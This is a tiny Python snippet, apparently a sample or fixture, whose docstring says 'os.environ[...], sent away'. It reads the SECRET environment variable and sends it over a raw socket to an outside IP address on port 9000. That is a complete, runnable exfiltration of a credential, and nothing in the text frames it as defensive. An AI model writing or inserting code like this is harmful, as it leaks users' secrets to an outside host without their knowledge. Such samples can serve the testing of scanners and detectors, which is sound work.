"""os.environ[...], sent away."""
import os
import socket

secret = os.environ["SECRET"]
socket.create_connection(("93.184.216.35", 9000)).sendall(secret.encode())
